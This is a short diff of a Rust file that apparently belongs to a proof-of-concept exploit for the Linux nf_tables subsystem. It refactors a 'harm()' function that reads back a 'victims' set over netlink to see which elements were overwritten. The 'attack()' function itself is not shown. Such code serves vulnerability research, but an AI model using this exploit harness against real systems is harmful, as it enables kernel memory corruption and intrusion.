@@ -3,11 +3,7 @@
 
 use std::{collections::BTreeSet, io, thread, time::Duration};
 
-use crate::{
-    attribute::{Attributes, find, parse},
-    netlink::{Batch, dump},
-    nft,
-};
+use crate::{attribute::Attributes, netlink::Batch, nft};
 
 const TABLE: &str = "otf_setelem";
 const VICTIMS: &str = "victims";
@@ -72,17 +68,12 @@ pub fn attack() -> io::Result<()> {
 
 /// Says which elements of the other set are not there any more as they were.
 pub fn harm() -> io::Result<()> {
-    let request = Attributes::new().text(1, TABLE).text(2, VICTIMS);
-    let mut found = BTreeSet::new();
-    for answer in dump(libc::NFT_MSG_GETSETELEM, nft::IP, &request)? {
-        for (_, element) in parse(find(&answer, 3).unwrap_or_default()) {
-            let key = find(element, 1).and_then(|data| find(data, 1));
-            // The last bytes of the copy hit where an element says that it has this.
-            if find(element, 6) == Some(NOTE) {
-                found.extend(key.map(<[u8]>::to_vec));
-            }
-        }
-    }
+    let found: BTreeSet<_> = nft::held(TABLE, VICTIMS)?
+        .into_iter()
+        // The last bytes of the copy hit where an element says that it has this.
+        .filter(|(_, note)| note == NOTE)
+        .map(|(key, _)| key)
+        .collect();
     let wanted = (0..COUNT).filter(|n| n % HOLE != 0);
     let lost = wanted.clone().filter(|n| !found.contains(&key(*n)[..]));
     match lost.count() {
